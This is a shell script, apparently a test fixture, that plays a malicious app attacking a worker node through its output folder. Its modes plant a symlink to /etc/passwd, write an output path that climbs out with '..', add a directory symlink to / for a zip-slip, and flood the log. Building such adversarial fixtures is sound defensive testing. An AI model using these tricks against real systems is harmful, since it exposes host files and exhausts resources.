#!/bin/sh
# workerpool-apps/evil:1 - an app that attacks the worker through its output, by mode <arg1>:
#   symlink   result.txt is a symlink to /etc/passwd, and computed.json points at it
#   dotdot    computed.json's deterministic-output-path climbs out: <out>/../etc/passwd
#   dirlink   a valid result.txt, plus up -> / (a directory symlink a careless zip would
#             follow: a zip-slip of the host into the result); the whole <out> is the result
#   logflood  <arg2> MB (default 100) on stdout, then a valid result
set -eu
out=${IEXEC_OUT:-/iexec_out}
mode=${1:-symlink}
mkdir -p "$out"
case $mode in
symlink)
    ln -s /etc/passwd "$out/result.txt"
    printf '{"deterministic-output-path":"%s/result.txt"}\n' "$out" >"$out/computed.json"
    ;;
dotdot)
    echo "harmless" >"$out/result.txt"
    printf '{"deterministic-output-path":"%s/../etc/passwd"}\n' "$out" >"$out/computed.json"
    ;;
dirlink)
    echo "dirlink result" >"$out/result.txt"
    ln -s / "$out/up"
    printf '{"deterministic-output-path":"%s"}\n' "$out" >"$out/computed.json"
    ;;
logflood)
    mb=${2:-100}
    yes "evil app: flooding the log with this line, again and again and again" |
        head -c "$((mb * 1048576))"
    echo "logflood result" >"$out/result.txt"
    printf '{"deterministic-output-path":"%s/result.txt"}\n' "$out" >"$out/computed.json"
    echo "evil app: done flooding"
    ;;
*)
    echo "evil app: unknown mode $mode" >&2
    exit 2
    ;;
esac
echo "evil app: $mode done"
